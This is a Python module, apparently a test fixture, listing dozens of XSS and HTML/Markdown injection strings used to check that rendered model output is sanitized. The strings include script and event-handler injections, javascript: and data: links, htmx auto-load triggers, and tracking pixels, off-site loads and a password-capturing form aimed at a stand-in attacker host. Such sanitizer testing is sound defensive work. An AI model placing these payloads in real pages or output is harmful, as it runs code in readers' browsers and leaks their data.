"""Texts with which a model may try to run code in a reader's browser, load something from another
site, or mislead.
"""

PAYLOADS = (
    "<script>window.pwned=1</script>",
    '<img src=x onerror="window.pwned=1">',
    "<svg onload=window.pwned=1><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
    "[click](javascript:window.pwned=1)",
    "[click](JaVaScRiPt&#58;window.pwned=1)",
    "[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==)",
    "[click](//evil.example/steal)",
    "[click](/\\evil.example)",
    "![x](https://evil.example/pixel?secret=1)",
    (
        '<a href="https://evil.example" hx-get="/settings/" hx-trigger="load"'
        ' hx-on:click="window.pwned=1">x</a>'
    ),
    (
        '<div hx-get="/runs/" hx-trigger="load"></div><b data-hx-get="/runs/"'
        ' data-hx-trigger="load">x</b>'
    ),
    "</script><script>window.pwned=1</script>",
    '"><script>window.pwned=1</script>',
    "' autofocus onfocus=window.pwned=1 x='",
    "<style>@import '//evil.example/x.css'; body{display:none}</style>",
    '<form action="https://evil.example"><input name=password autofocus></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    (
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1'
        ' onerror=window.pwned=1&gt;">'
    ),
    '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">',
    "{{ 7*7 }} {% csrf_token %} ${window.pwned=1}",
    "<p id=page><p id=desk name=htmx>clobber",
    "\u202egnp.exe \x00 \x1b[31m red \ud7ff",
    "`<script>window.pwned=1</script>`\n\n```html\n<img src=x onerror=window.pwned=1>\n```",
    '<https://example.org/"onmouseover=window.pwned=1>',
    # SVG and MathML
    '<svg><script href="data:,window.pwned=1"/></svg>',
    '<svg><a xlink:href="javascript:window.pwned=1"><text y=20>x</text></a></svg>',
    (
        "<svg><set attributeName=onmouseover to=window.pwned=1 /><use"
        ' href="data:image/svg+xml,x#x"/></svg>'
    ),
    '<svg><foreignObject><iframe src="javascript:parent.pwned=1"></iframe></foreignObject></svg>',
    (
        '<svg><image href="https://evil.example/pixel.svg"/><style>@import'
        " url(//evil.example)</style></svg>"
    ),
    (
        '<math><maction actiontype="statusline#x"'
        ' xlink:href="javascript:window.pwned=1">x</maction></math>'
    ),
    '<math href="javascript:window.pwned=1"><mi>x</mi></math>',
    "$$\\href{javascript:window.pwned=1}{x}$$ \\(\\unicode{<img src=x onerror=window.pwned=1>}\\)",
    # loading something
    '<img srcset="https://evil.example/1.png 1x, https://evil.example/2.png 2x">',
    (
        '<picture><source srcset="//evil.example/a.webp"><img src="//evil.example/a.png"'
        " loading=eager></picture>"
    ),
    (
        '<video poster="https://evil.example/p.png" src="//evil.example/v.mp4" autoplay'
        " onloadstart=window.pwned=1></video>"
    ),
    (
        '<audio src=x onerror=window.pwned=1 autoplay><track src="//evil.example/t.vtt"'
        " default></audio>"
    ),
    '<link rel=stylesheet href="//evil.example/x.css"><link rel=prefetch href="//evil.example/p">',
    '<link rel="dns-prefetch" href="//evil.example"><link rel=preconnect href="//evil.example">',
    '<p style="background:url(https://evil.example/bg.png)">styled</p>',
    "<p style=\"background-image:url('//evil.example/b.png');position:fixed;inset:0\">over all</p>",
    (
        "<style>body{background:url(//evil.example/b)}"
        " @font-face{font-family:x;src:url(//evil.example/f)} *{font-family:x}</style>"
    ),
    (
        '<object data="data:text/html,<script>parent.pwned=1</script>"></object><embed'
        ' src="//evil.example/e.swf">'
    ),
    '<iframe src="https://evil.example"></iframe><frame src="//evil.example">',
    '<iframe src="javascript:parent.pwned=1"></iframe>',
    '<base href="https://evil.example/"><a href="steal">relative</a>',
    '<portal src="https://evil.example"></portal><fencedframe></fencedframe>',
    '<script src="https://evil.example/x.js"></script>',
    '<script type=module>import "https://evil.example/m.js"; window.pwned=1</script>',
    '<script type="importmap">{"imports":{"./keys.js":"//evil.example/k.js"}}</script>',
    '<script type="speculationrules">{"prefetch":[{"urls":["https://evil.example/p"]}]}</script>',
    # Markdown with links to other sites
    "![pixel][p]\n\n[p]: https://evil.example/pixel?secret=2",
    "[reference][r]\n\n[r]: javascript:window.pwned=1",
    "<javascript:window.pwned=1> <data:text/html,window.pwned=1> <vbscript:msgbox>",
    '[click](https://evil.example "onmouseover=window.pwned=1")',
    (
        "[click](<javascript:window.pwned=1>) [click](java\tscript:window.pwned=1)"
        " [click](\x01javascript:window.pwned=1)"
    ),
    "[![x](//evil.example/b.png)](//evil.example)",
    "[click](blob:https://evil.example/1) [click](file:///etc/passwd) [click](ftp://evil.example)",
    "[click](https://good.example@evil.example/) [click](https://xn--80ak6aa92e.com/)",
    # the page's own scripts and attributes
    '<div hx-get="https://evil.example" hx-trigger="load" hx-target="body">x</div>',
    (
        "<div hx-on::load=\"window.pwned=1\" hx-on:htmx:load='window.pwned=1'"
        " data-hx-on-load='window.pwned=1'></div>"
    ),
    "<form hx-post='/accounts/logout/' hx-trigger='load'></form>",
    "<div hx-vals='js:{x: window.pwned=1}' hx-get='/runs/' hx-trigger=load></div>",
    (
        "<hx-partial hx-target='#page'"
        " hx-swap='innerHTML'><script>window.pwned=1</script></hx-partial>"
    ),
    (
        '<meta name="htmx-config" content=\'{"mode":"cors"}\'><meta'
        ' http-equiv="Content-Security-Policy" content="">'
    ),
    (
        "<dialog open data-keys-sheet><form method=dialog><button autofocus"
        " onfocus=window.pwned=1>x</button></form></dialog>"
    ),
    "<details open ontoggle=window.pwned=1><summary>x</summary></details>",
    (
        "<button data-theme-switch data-opens=stop-run data-act=stop formaction='//evil.example'"
        " autofocus>x</button>"
    ),
    (
        '<template shadowrootmode="open"><img src=x onerror=window.pwned=1></template><slot'
        " onslotchange=window.pwned=1></slot>"
    ),
    (
        "<input type=image src='//evil.example/i.png' onerror=window.pwned=1><isindex"
        " action=javascript:window.pwned=1>"
    ),
    (
        "<form action='javascript:window.pwned=1'><button formaction='javascript:window.pwned=1'"
        " autofocus>send</button></form>"
    ),
    (
        "<marquee onstart=window.pwned=1>x</marquee><body onload=window.pwned=1><x"
        " onclick=window.pwned=1 tabindex=0 autofocus>"
    ),
    "<p contenteditable autofocus onfocus=window.pwned=1 onbeforeinput=window.pwned=1>x</p>",
    (
        "<div popover id=p onbeforetoggle=window.pwned=1></div><button popovertarget=p"
        " autofocus>x</button>"
    ),
    # escapes from the surrounding element
    "--><script>window.pwned=1</script><!--",
    "]]><script>window.pwned=1</script><![CDATA[",
    "</textarea><script>window.pwned=1</script><textarea>",
    "</title><img src=x onerror=window.pwned=1></style></noscript></template></select></option>",
    '"onmouseover="window.pwned=1" autofocus onfocus="window.pwned=1" x="',
    (
        "'-window.pwned=1-' `${window.pwned=1}`"
        " \\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e"
    ),
    '\u2028window.pwned=1\u2029 {"</script><script>window.pwned=1</script>":1}',
    (
        "{{constructor.constructor('window.pwned=1')()}} <%= window.pwned=1 %> #{window.pwned=1}"
        " [[${7*7}]]"
    ),
    "&lt;img src=x onerror=window.pwned=1&gt; &#60;script&#62;window.pwned=1&#60;/script&#62;",
    (
        "<<script>script>window.pwned=1<</script>/script>"
        " <scr<script>ipt>window.pwned=1</scr</script>ipt>"
    ),
    (
        "\uff1cscript\uff1ewindow.pwned=1\uff1c/script\uff1e \ufe64img src=x"
        " onerror=window.pwned=1\ufe65"
    ),
    # misleading characters
    "\u202etpircs\u202c \u2066hidden\u2069 \u200b\u200d\ufeff\u00ad pay\u202epal.com",
    "e" + "\u0301" * 200 + " \U000e0001\U000e0041 \U0001f468\u200d\U0001f469\u200d\U0001f467",
    "a" * 3000 + "<img/src=x/onerror=window.pwned=1>",
)
